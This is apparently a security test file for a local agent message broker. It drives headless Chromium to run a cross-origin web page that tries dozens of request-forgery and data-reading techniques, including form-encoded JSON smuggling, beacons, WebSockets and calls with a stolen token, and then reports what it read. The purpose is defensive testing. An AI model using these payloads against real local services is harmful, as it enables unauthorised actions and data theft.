import { type ChildProcess, spawn, spawnSync } from "node:child_process";
import { mkdtempSync, rmSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { HttpStage } from "./http-stage.ts";

/**
 * A real Chromium opens a page of another origin on this machine, which tries everything a page can do against the
 * broker, with a token it should never have had. The page tells its own server what it could read; what was stored is
 * asked of the broker. `BANKSMAN_TEST_CHROMIUM` names another program.
 */
const CHROMIUM = process.env.BANKSMAN_TEST_CHROMIUM ?? "chromium";
const there = spawnSync(CHROMIUM, ["--version"], { timeout: 30_000 }).status === 0;
if (!there) console.warn(`SKIPPED: what a web page can do to the broker, because ${CHROMIUM} is not installed`);

let http: HttpStage;
let attacker: Attacker;
beforeEach(async () => {
  http = await HttpStage.open();
  attacker = await Attacker.open();
});
afterEach(async () => {
  await attacker.close();
  await http.close();
});

/** Reported by the page: what each attempt came to. `nothing` is an error, or an answer it may not look into. */
type Findings = Readonly<Record<string, string>>;

/** The page's own server, and the browser that is led to it. */
class Attacker {
  private browser: ChildProcess | null = null;
  private readonly profile = mkdtempSync(join(tmpdir(), "bm-chromium-"));
  private page = "";
  private report: (findings: Findings) => void = () => undefined;

  private constructor(private readonly server: Server) {}

  static async open(): Promise<Attacker> {
    const server = createServer((request, response) => {
      let body = "";
      request.on("data", (chunk: Buffer) => {
        body += chunk.toString();
      });
      request.on("end", () => {
        if (request.url === "/report") attacker.report(JSON.parse(body) as Findings);
        response.writeHead(200, { "content-type": "text/html" });
        response.end(request.url === "/" ? attacker.page : "");
      });
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    return new Attacker(server);
  }

  /** `host` is how the browser calls the page's server: another port is another origin, another name another site. */
  visit(host: string, script: string): Promise<Findings> {
    this.page = `<!doctype html><meta charset=utf-8><body><script type=module>${script}</script>`;
    const { port } = this.server.address() as AddressInfo;
    const flags = ["--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-dev-shm-usage"];
    const quiet = ["--disable-background-networking", "--disable-component-update", "--disable-sync"];
    return new Promise((resolve, reject) => {
      this.report = resolve;
      const args = [...flags, ...quiet, `--user-data-dir=${this.profile}`, `http://${host}:${port}/`];
      this.browser = spawn(CHROMIUM, args, { stdio: "ignore", detached: true });
      this.browser.once("error", reject);
      this.browser.once("exit", (code) =>
        reject(new Error(`the browser ended with ${code} before it had told anything`)),
      );
    });
  }

  async close(): Promise<void> {
    const { browser } = this;
    if (browser?.pid !== undefined && browser.exitCode === null) {
      browser.removeAllListeners("exit");
      const ended = new Promise((resolve) => browser.once("exit", resolve));
      process.kill(-browser.pid, "SIGKILL");
      await ended;
    }
    this.server.closeAllConnections();
    await new Promise((resolve) => this.server.close(resolve));
    rmSync(this.profile, { recursive: true, force: true, maxRetries: 5 });
  }
}

/** Every way a page has to send or read something, tried on `base`. Runs in the browser. */
function attempts(base: string, agent: string, operator: string): string {
  return `
const base = ${JSON.stringify(base)}, plain = new URL(base).origin, operator = ${JSON.stringify(operator)};
const body = JSON.stringify({ type: "agent.status", agent_id: ${JSON.stringify(agent)}, payload: { status: "pwned" } });
const findings = {};
const attempt = async (name, work) => {
  const late = new Promise((resolve) => setTimeout(() => resolve("nothing"), 3000));
  findings[name] = await Promise.race([late, Promise.resolve().then(work).catch(() => "nothing")]);
};
const text = async (response) => response.type === "opaque" ? "nothing" : "read: " + (await response.text());
const json = { "content-type": "application/json" };
const loaded = (element, attribute, url) => new Promise((resolve) => {
  element.onload = () => resolve("loaded"); element.onerror = () => resolve("nothing");
  element[attribute] = url; document.body.append(element);
});
for (const mode of ["cors", "no-cors", "same-origin"]) for (const credentials of ["omit", "include"]) {
  await attempt("get " + mode + " " + credentials, async () => text(await fetch(base + "/messages/${agent}", { mode, credentials })));
  await attempt("status " + mode + " " + credentials, async () => text(await fetch(plain + "/status", { mode, credentials })));
  await attempt("post json " + mode + " " + credentials, async () => text(await fetch(base + "/publish", { method: "POST", mode, credentials, headers: json, body })));
  await attempt("post text " + mode + " " + credentials, async () => text(await fetch(base + "/publish", { method: "POST", mode, credentials, body })));
}
await attempt("post with the operator's token", async () => text(await fetch(plain + "/publish", { method: "POST", headers: { ...json, authorization: "Bearer " + operator }, body })));
await attempt("act with the operator's token", async () => text(await fetch(plain + "/act", { method: "POST", headers: { ...json, authorization: "Bearer " + operator }, body: '{"type":"stop"}' })));
await attempt("log with the operator's token", async () => text(await fetch(plain + "/log", { headers: { authorization: "Bearer " + operator } })));
await attempt("blob", async () => text(await fetch(base + "/publish", { method: "POST", mode: "no-cors", body: new Blob([body], { type: "application/json" }) })));
await attempt("beacon", async () => { navigator.sendBeacon(base + "/publish", new Blob([body], { type: "application/json" })); navigator.sendBeacon(base + "/publish", body); return "nothing"; });
await attempt("xhr", () => new Promise((resolve) => {
  const request = new XMLHttpRequest();
  request.onload = () => resolve("read: " + request.responseText); request.onerror = () => resolve("nothing");
  request.open("POST", base + "/publish"); request.setRequestHeader("content-type", "application/json"); request.send(body);
}));
for (const path of ["/events", "/messages/${agent}"]) await attempt("event source " + path, () => new Promise((resolve) => {
  const source = new EventSource(base + path);
  source.onopen = () => resolve("open"); source.onmessage = ({ data }) => resolve("read: " + data); source.onerror = () => resolve("nothing");
}));
await attempt("web socket", () => new Promise((resolve) => {
  const socket = new WebSocket(base.replace("http", "ws") + "/publish");
  socket.onopen = () => { socket.send(body); resolve("open"); }; socket.onerror = () => resolve("nothing");
}));
await attempt("img", () => loaded(new Image(), "src", base + "/messages/${agent}"));
await attempt("script", () => loaded(document.createElement("script"), "src", base + "/messages/${agent}"));
await attempt("style", () => { const link = document.createElement("link"); link.rel = "stylesheet"; return loaded(link, "href", base + "/status"); });
for (const enctype of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) await attempt("form " + enctype, () => new Promise((resolve) => {
  const frame = document.createElement("iframe"); frame.name = enctype; document.body.append(frame);
  const form = document.createElement("form"); Object.assign(form, { action: base + "/publish", method: "POST", enctype, target: enctype });
  const field = document.createElement("input"); field.name = body.slice(0, -1) + ',"x":"'; field.value = '"}'; form.append(field); document.body.append(form);
  frame.onload = () => { try { resolve(frame.contentDocument?.body?.innerText ? "read: " + frame.contentDocument.body.innerText : "nothing"); } catch { resolve("nothing"); } };
  form.submit();
}));
await attempt("frame", () => new Promise((resolve) => {
  const frame = document.createElement("iframe"); document.body.append(frame);
  frame.onload = () => { try { resolve(frame.contentDocument ? "read: " + frame.contentDocument.body.innerText : "nothing"); } catch { resolve("nothing"); } };
  frame.src = base + "/status";
}));
await fetch("/report", { method: "POST", body: JSON.stringify(findings) });`;
}

describe.skipIf(!there)("a web page of another origin", () => {
  it.each([
    ["another port of this machine, by number", "127.0.0.1", true],
    ["another port of this machine, by name", "localhost", true],
    ["another port, without any token", "127.0.0.1", false],
  ])("at %s can neither publish nor read", async (_, host, knows) => {
    await http.publish("operator", {
      type: "agent.feedback",
      agent_id: "a",
      payload: { from: "supervisor", errors: ["secret"] },
    });
    const token = knows ? http.tokens.a : "guessed";
    const findings = await attacker.visit(
      host,
      attempts(`${http.url}/a/${token}`, "a", (knows && http.tokens.operator) || "guessed"),
    );
    expect(Object.keys(findings).length).toBeGreaterThan(35);
    expect(Object.entries(findings).filter(([, found]) => found !== "nothing")).toEqual([]);
    const { entries } = (await http.call("operator", "GET", "/log")).body as { entries: { seq: number }[] };
    expect([entries.map(({ seq }) => seq), http.acted]).toEqual([[1], []]);
    expect(http.context.journal.cursor("a" as never)).toBe(null);
  });

  it("would do both to a server that lets it: the attempts are real", async () => {
    const stored: string[] = [];
    const careless = createServer((request, response) => {
      let body = "";
      request.on("data", (chunk: Buffer) => {
        body += chunk.toString();
      });
      request.on("end", () => {
        if (body.includes("pwned")) stored.push(`${request.headers["content-type"]}`.replace(/;.*/, ""));
        const allow = { "access-control-allow-origin": "*", "access-control-allow-headers": "*" };
        response.writeHead(200, { "content-type": "text/plain", ...allow });
        response.end("secret");
      });
    });
    await new Promise<void>((resolve) => careless.listen(0, "127.0.0.1", resolve));
    try {
      const url = `http://127.0.0.1:${(careless.address() as AddressInfo).port}/a/token`;
      const findings = await attacker.visit("127.0.0.1", attempts(url, "a", "operator"));
      expect(findings).toMatchObject({
        "get cors omit": "read: secret",
        "log with the operator's token": "read: secret",
        xhr: "read: secret",
      });
      expect(stored).toEqual(
        expect.arrayContaining([
          "application/json",
          "text/plain",
          "application/x-www-form-urlencoded",
          "multipart/form-data",
        ]),
      );
    } finally {
      careless.closeAllConnections();
      await new Promise((resolve) => careless.close(resolve));
    }
  });
});
